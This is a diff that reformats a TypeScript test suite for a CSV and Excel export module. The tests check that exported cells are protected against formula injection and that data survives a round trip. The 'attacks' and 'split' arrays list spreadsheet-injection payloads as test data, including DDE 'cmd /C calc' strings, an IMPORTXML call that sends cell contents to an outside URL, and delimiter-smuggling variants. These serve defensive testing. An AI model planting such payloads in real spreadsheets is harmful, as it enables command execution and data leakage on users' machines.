@@ -18,7 +18,8 @@ async function all<T>(parts: AsyncIterable<T>): Promise<T[]> {
   return found
 }
 const csv = async (given: Sheet) => (await all(csvOf(given))).join('')
-const parsed = async (given: Sheet) => Papa.parse<string[]>(await csv(given), { skipEmptyLines: true }).data
+const parsed = async (given: Sheet) =>
+  Papa.parse<string[]>(await csv(given), { skipEmptyLines: true }).data
 async function book(given: Sheet) {
   const parts: Uint8Array[] = []
   for await (const part of xlsxOf(given)) parts.push(part)
@@ -32,16 +33,52 @@ const cellAt = (found: XLSX.WorkSheet, place: string): XLSX.CellObject | undefin
 
 /** What has been tried on spreadsheets, and what an honest text looks like. */
 const attacks = [
-  '=1+1', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,1)', '\t=1', '\r=1', ' =HYPERLINK("http://x","y")', '\u00A0=1', '＝1+1', '＋A1', '－A1', '＠A1',
-  '=IMPORTXML(CONCAT("http://x",A1),"//a")', '=DDE("cmd";"/C calc";"x")', '"=1"', '-A1', '+A1',
+  '=1+1',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1,1)',
+  '\t=1',
+  '\r=1',
+  ' =HYPERLINK("http://x","y")',
+  '\u00A0=1',
+  '＝1+1',
+  '＋A1',
+  '－A1',
+  '＠A1',
+  '=IMPORTXML(CONCAT("http://x",A1),"//a")',
+  '=DDE("cmd";"/C calc";"x")',
+  '"=1"',
+  '-A1',
+  '+A1',
 ]
 const honest = [
-  'Front Street, "Tower" B', 'two\nlines', 'two\r\nlines', ' spaces ', 'Ángel Núñez', '工事 👷', '<b>&amp;</b>', '_x000D_', "O'Neil", '0012', 'TRUE', '1e5', ';', '', '=',
+  'Front Street, "Tower" B',
+  'two\nlines',
+  'two\r\nlines',
+  ' spaces ',
+  'Ángel Núñez',
+  '工事 👷',
+  '<b>&amp;</b>',
+  '_x000D_',
+  "O'Neil",
+  '0012',
+  'TRUE',
+  '1e5',
+  ';',
+  '',
+  '=',
 ]
 const figures = ['+1 512 555 0142', '(512) 555-0142', '-12.5', '+49 30/123456', '-1,200.00']
 
 test('a sheet as CSV: with the mark of UTF-8, its head, and each line ended as the standard says', async () => {
-  expect(await csv(sheet([['Tower', 3, '2026-12-01'], ['Depot', -2.5, '']]))).toBe('\uFEFFName,Count,Due\r\nTower,3,2026-12-01\r\nDepot,-2.5,\r\n')
+  expect(
+    await csv(
+      sheet([
+        ['Tower', 3, '2026-12-01'],
+        ['Depot', -2.5, ''],
+      ]),
+    ),
+  ).toBe('\uFEFFName,Count,Due\r\nTower,3,2026-12-01\r\nDepot,-2.5,\r\n')
 })
 
 test('CSV comes back as it went, whatever stands in a text', async () => {
@@ -49,35 +86,85 @@ test('CSV comes back as it went, whatever stands in a text', async () => {
   expect((await parsed(sheet(rows))).slice(1)).toEqual(rows.map((row) => row.map(String)))
 })
 
-test.each(attacks.filter((text) => text !== '"=1"'))('no text of CSV is a formula: %j', async (text) => {
-  const [, row] = await parsed(sheet([[text, 1, '']]))
-  expect([row?.[0]?.replaceAll(/([\t\r])'/g, '$1'), unharmed(row?.[0] ?? '')]).toEqual([`'${text}`, text])
-})
+test.each(attacks.filter((text) => text !== '"=1"'))(
+  'no text of CSV is a formula: %j',
+  async (text) => {
+    const [, row] = await parsed(sheet([[text, 1, '']]))
+    expect([row?.[0]?.replaceAll(/([\t\r])'/g, '$1'), unharmed(row?.[0] ?? '')]).toEqual([
+      `'${text}`,
+      text,
+    ])
+  },
+)
 
 test('what was written is read again as it was, also a text that begins as we write a formula', async () => {
-  const texts = [...attacks, ...honest, ...figures, ...attacks.map((text) => `'${text}`), ...attacks.map((text) => `''${text}`), "'", "''", "'quoted'", "'-12.5"]
-  const read = (await parsed(sheet(texts.map((text) => [text, 1, ''])))).slice(1).map(([text = '']) => unharmed(text))
+  const texts = [
+    ...attacks,
+    ...honest,
+    ...figures,
+    ...attacks.map((text) => `'${text}`),
+    ...attacks.map((text) => `''${text}`),
+    "'",
+    "''",
+    "'quoted'",
+    "'-12.5",
+  ]
+  const read = (await parsed(sheet(texts.map((text) => [text, 1, '']))))
+    .slice(1)
+    .map(([text = '']) => unharmed(text))
   expect(read).toEqual(texts)
 })
 
 /** Texts that hide a formula from a reader of commas and show it to a reader of another sign. */
 const split = [
-  'x;=1+1', 'x\t=1+1', 'x|@SUM(1,1)', 'x; +1+cmd', 'x;"=1+1;y', 'x;\u00A0-2+3', 'x\n=1+1', 'x\r\n=1+1', ';;=1', ';\n=1', 'x;＝1',
-  "x;'=1", "x;''=1", 'x|"\t\n-1', '=1;=2', "'=1;'=2", '\n=1', 'x;-5', '+1\t-2', 'x;', 'a;b', 'x;"', 'x;""',
+  'x;=1+1',
+  'x\t=1+1',
+  'x|@SUM(1,1)',
+  'x; +1+cmd',
+  'x;"=1+1;y',
+  'x;\u00A0-2+3',
+  'x\n=1+1',
+  'x\r\n=1+1',
+  ';;=1',
+  ';\n=1',
+  'x;＝1',
+  "x;'=1",
+  "x;''=1",
+  'x|"\t\n-1',
+  '=1;=2',
+  "'=1;'=2",
+  '\n=1',
+  'x;-5',
+  '+1\t-2',
+  'x;',
+  'a;b',
+  'x;"',
+  'x;""',
 ]
 
-test.each([',', ';', '\t', '|'])('a reader set to %j finds no formula in a CSV of ours', async (delimiter) => {
-  const rows = [...split, ...attacks, ...honest, ...figures].flatMap((text): Cell[][] => [[text, "1+cmd|' /C calc'!A0", ''], ['a', text, text], [-5, "1+cmd|' /C calc'!A0", text]])
-  const written = (await csv(sheet(rows))).slice(1)
-  const cells = Papa.parse<string[]>(written, { delimiter }).data.flat()
-  const isFigure = (text: string) => /^[+-]?[\d\s().,/-]+$/.test(text)
-  expect(cells.filter((text) => /^\s*[=+\-@＝＋－＠]/.test(text) && !isFigure(text))).toEqual([])
-})
+test.each([',', ';', '\t', '|'])(
+  'a reader set to %j finds no formula in a CSV of ours',
+  async (delimiter) => {
+    const rows = [...split, ...attacks, ...honest, ...figures].flatMap((text): Cell[][] => [
+      [text, "1+cmd|' /C calc'!A0", ''],
+      ['a', text, text],
+      [-5, "1+cmd|' /C calc'!A0", text],
+    ])
+    const written = (await csv(sheet(rows))).slice(1)
+    const cells = Papa.parse<string[]>(written, { delimiter }).data.flat()
+    const isFigure = (text: string) => /^[+-]?[\d\s().,/-]+$/.test(text)
+    expect(cells.filter((text) => /^\s*[=+\-@＝＋－＠]/.test(text) && !isFigure(text))).toEqual([])
+  },
+)
 
 test('a text with a formula behind another sign is read again as it was', async () => {
-  const read = (await parsed(sheet(split.map((text) => ['a', 1, text])))).slice(1).map(([, , text = '']) => unharmed(text))
+  const read = (await parsed(sheet(split.map((text) => ['a', 1, text]))))
+    .slice(1)
+    .map(([, , text = '']) => unharmed(text))
   expect(read).toEqual(split)
-  const first = (await parsed(sheet(figures.map((text) => [text, 1, ''])))).slice(1).map(([text = '']) => unharmed(text))
+  const first = (await parsed(sheet(figures.map((text) => [text, 1, '']))))
+    .slice(1)
+    .map(([text = '']) => unharmed(text))
   expect(first).toEqual(figures)
 })
 
@@ -86,13 +173,26 @@ test('a long text of line ends is made harmless in time that grows with its leng
   expect(unharmed((await parsed(sheet([['a', 1, text]])))[1]?.[2] ?? '')).toBe(text)
 })
 
-test.each(attacks.filter((text) => text !== '"=1"').map((text) => `'${text}`))('a text that only looks as if it were made harmless is one no more than any other: %j', async (text) => {
-  const [, row] = await parsed(sheet([[text, 1, '']]))
-  expect([row?.[0]?.replaceAll(/([\t\r])'/g, '$1'), unharmed(row?.[0] ?? '')]).toEqual([`'${text}`, text])
-})
+test.each(attacks.filter((text) => text !== '"=1"').map((text) => `'${text}`))(
+  'a text that only looks as if it were made harmless is one no more than any other: %j',
+  async (text) => {
+    const [, row] = await parsed(sheet([[text, 1, '']]))
+    expect([row?.[0]?.replaceAll(/([\t\r])'/g, '$1'), unharmed(row?.[0] ?? '')]).toEqual([
+      `'${text}`,
+      text,
+    ])
+  },
+)
 
 test('a title is no formula either, and one that is quoted is a text already', async () => {
-  const titled = await csv({ name: '', columns: [{ title: '=1+1', type: 'text' }, { title: '"=1"', type: 'text' }], rows: [] })
+  const titled = await csv({
+    name: '',
+    columns: [
+      { title: '=1+1', type: 'text' },
+      { title: '"=1"', type: 'text' },
+    ],
+    rows: [],
+  })
   expect(titled).toBe(`\uFEFF'=1+1,"""=1"""\r\n`)
 })
 
@@ -101,26 +201,62 @@ test.each(figures)('a telephone number or an amount stays as it is: %s', async (
 })
 
 test('a workbook: numbers and days are such, a text is a text, and nothing is a formula', async () => {
-  const found = await cells(sheet([['Tower', -2.5, '2026-12-01'], ['', '', ''], ['Old', 0, '1899-12-31'], ['x', Number.NaN, 'soon']]))
-  expect(['A1', 'B1', 'C1', 'A2', 'B2', 'C2'].map((place) => [cellAt(found, place)?.t, cellAt(found, place)?.v])).toEqual([['s', 'Name'], ['s', 'Count'], ['s', 'Due'], ['s', 'Tower'], ['n', -2.5], ['n', 46_357]])
+  const found = await cells(
+    sheet([
+      ['Tower', -2.5, '2026-12-01'],
+      ['', '', ''],
+      ['Old', 0, '1899-12-31'],
+      ['x', Number.NaN, 'soon'],
+    ]),
+  )
+  expect(
+    ['A1', 'B1', 'C1', 'A2', 'B2', 'C2'].map((place) => [
+      cellAt(found, place)?.t,
+      cellAt(found, place)?.v,
+    ]),
+  ).toEqual([
+    ['s', 'Name'],
+    ['s', 'Count'],
+    ['s', 'Due'],
+    ['s', 'Tower'],
+    ['n', -2.5],
+    ['n', 46_357],
+  ])
   expect(cellAt(found, 'C2')?.w).toBe('2026-12-01')
   // What is empty is no cell with a value; what no spreadsheet can count stays the text it was.
-  expect(['A3', 'B3', 'C3', 'B5'].map((place) => cellAt(found, place)?.v)).toEqual([undefined, undefined, undefined, undefined])
+  expect(['A3', 'B3', 'C3', 'B5'].map((place) => cellAt(found, place)?.v)).toEqual([
+    undefined,
+    undefined,
+    undefined,
+    undefined,
+  ])
   expect([cellAt(found, 'C4')?.v, cellAt(found, 'C5')?.v]).toEqual(['1899-12-31', 'soon'])
 })
 
-test.each([...attacks, ...honest.filter((text) => text !== ''), ...figures])('a text of a workbook comes back as the text it was: %j', async (text) => {
-  const cell = cellAt(await cells(sheet([[text, 1, text]])), 'A2')
-  expect([cell?.t, cell?.v, cell?.f]).toEqual(['s', text.replaceAll('\r\n', '\n'), undefined])
-})
+test.each([...attacks, ...honest.filter((text) => text !== ''), ...figures])(
+  'a text of a workbook comes back as the text it was: %j',
+  async (text) => {
+    const cell = cellAt(await cells(sheet([[text, 1, text]])), 'A2')
+    expect([cell?.t, cell?.v, cell?.f]).toEqual(['s', text.replaceAll('\r\n', '\n'), undefined])
+  },
+)
 
 test('what XML cannot say and what is too long for a cell do not break the workbook', async () => {
-  const found = await cells(sheet([['a\u0000b\u0008c\uFFFEd\uD800e', 1, ''], ['x'.repeat(40_000), 1, '']]))
+  const found = await cells(
+    sheet([
+      ['a\u0000b\u0008c\uFFFEd\uD800e', 1, ''],
+      ['x'.repeat(40_000), 1, ''],
+    ]),
+  )
   expect(cellAt(found, 'A2')?.v).toBe('abcd\uFFFDe')
   expect(String(cellAt(found, 'A3')?.v)).toHaveLength(32_767)
 })
 
-test.each([['Jobs: failed/waiting [all]', 'Jobs  failed waiting  all'], ['x'.repeat(60), 'x'.repeat(31)], ["'", 'Sheet']])('a sheet has a name that spreadsheets take: %s', async (name, expected) => {
+test.each([
+  ['Jobs: failed/waiting [all]', 'Jobs  failed waiting  all'],
+  ['x'.repeat(60), 'x'.repeat(31)],
+  ["'", 'Sheet'],
+])('a sheet has a name that spreadsheets take: %s', async (name, expected) => {
   expect((await book(sheet([], name))).SheetNames).toEqual([expected])
 })
 
@@ -139,26 +275,35 @@ test('a hundred thousand rows are made piece by piece', async () => {
   expect(last).toEqual(['Row 99999', '99999', '2026-12-01'])
 })
 
-const files = [['CSV', csvOf], ['a workbook', xlsxOf]] as const
+const files = [
+  ['CSV', csvOf],
+  ['a workbook', xlsxOf],
+] as const
 
-test.each(files)('who takes only the beginning of %s ends what its rows are read from', async (_name, write) => {
-  let [read, isEnded] = [0, false]
-  async function* endless(): AsyncGenerator<Cell[]> {
-    try {
-      for (;;) yield [`Row ${(read += 1)}`, read * 0.618, '']
-    } finally {
-      isEnded = true
+test.each(files)(
+  'who takes only the beginning of %s ends what its rows are read from',
+  async (_name, write) => {
+    let [read, isEnded] = [0, false]
+    async function* endless(): AsyncGenerator<Cell[]> {
+      try {
+        for (;;) yield [`Row ${(read += 1)}`, read * 0.618, '']
+      } finally {
+        isEnded = true
+      }
     }
-  }
-  for await (const _part of write(sheet(endless()))) if (read > 5000) break
-  await expect.poll(() => isEnded).toBe(true)
-  expect(read).toBeLessThan(100_000)
-})
+    for await (const _part of write(sheet(endless()))) if (read > 5000) break
+    await expect.poll(() => isEnded).toBe(true)
+    expect(read).toBeLessThan(100_000)
+  },
+)
 
-test.each(files)('rows that fail make %s fail, which so never looks whole', async (_name, write) => {
-  async function* broken(): AsyncGenerator<Cell[]> {
-    yield ['Tower', 1, '']
-    throw new Error('The database went.')
-  }
-  await expect(all<unknown>(write(sheet(broken())))).rejects.toThrow('The database went.')
-})
+test.each(files)(
+  'rows that fail make %s fail, which so never looks whole',
+  async (_name, write) => {
+    async function* broken(): AsyncGenerator<Cell[]> {
+      yield ['Tower', 1, '']
+      throw new Error('The database went.')
+    }
+    await expect(all<unknown>(write(sheet(broken())))).rejects.toThrow('The database went.')
+  },
+)
